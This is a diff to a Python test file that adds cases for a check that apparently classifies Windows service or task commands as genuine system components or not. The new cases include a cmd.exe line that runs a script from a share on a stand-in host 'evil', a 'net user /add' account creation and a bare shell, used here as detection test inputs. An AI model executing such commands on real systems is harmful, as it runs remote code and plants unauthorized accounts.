@@ -132,6 +132,9 @@ def test_windows_own_shapes_are_windows_components(command, arguments):
     ("powershell.exe", "-File C:\\ProgramData\\x.ps1", None),
     ("%systemroot%\\system32\\mshta.exe", "%systemroot%\\system32\\x.hta", None),
     ("%systemroot%\\system32\\regsvr32.exe", "/s %systemroot%\\system32\\x.dll", None),
+    ("%systemroot%\\system32\\cmd.exe", '/d /c "%systemroot%\\system32\\x.cmd & \\\\evil\\s\\y.cmd"', None),
+    ("C:\\Windows\\System32\\cmd.exe /c net user x /add", None, None),       # arguments written into Command
+    ("C:\\Windows\\System32\\cmd.exe", None, None),                         # an interactive shell
     ("C:\\Windows\\Temp\\svc.exe", None, None),
     ("C:\\Windows\\System32\\Tasks\\x.exe", None, None),
     ("C:\\Windows\\System32\\spool\\drivers\\color\\x.exe", None, None),
